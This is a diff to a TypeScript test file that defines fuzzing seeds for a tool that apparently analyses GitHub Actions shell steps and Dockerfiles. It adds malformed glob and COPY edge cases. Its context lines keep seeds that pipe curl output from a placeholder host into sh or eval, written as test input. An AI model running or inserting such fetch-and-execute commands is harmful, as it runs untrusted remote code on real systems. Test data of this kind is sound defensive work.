@@ -373,7 +373,12 @@ export const BOUNDARIES: Readonly<Record<string, Boundary>> = {
     ],
   },
   shell: {
-    seeds: ['curl -L https://a.example/$x | sh', 'x=$(curl a); eval "$x"'],
+    seeds: [
+      'curl -L https://a.example/$x | sh',
+      'x=$(curl a); eval "$x"',
+      'case x in [b-a]) a;; esac',
+      '[[ x = [b-a] ]]',
+    ],
     tokens: SHELL,
     run: (text) => actionOf({ 'action.yml': composite(text, 'bash') }),
   },
@@ -393,7 +398,11 @@ export const BOUNDARIES: Readonly<Record<string, Boundary>> = {
     run: (text) => actionOf({ 'action.yml': 'runs:\n  using: node20\n  main: m.js\n', 'm.js': text }),
   },
   dockerfile: {
-    seeds: ['FROM a:1\nRUN curl https://a.example/x | sh\n'],
+    seeds: [
+      'FROM a:1\nRUN curl https://a.example/x | sh\n',
+      'FROM a:1\nCOPY ["]sh\n',
+      'FROM a:1\nCOPY [b-a] /x\n',
+    ],
     tokens: DOCKER,
     run: (text) =>
       actionOf({ 'action.yml': 'runs:\n  using: docker\n  image: Dockerfile\n', Dockerfile: text }),
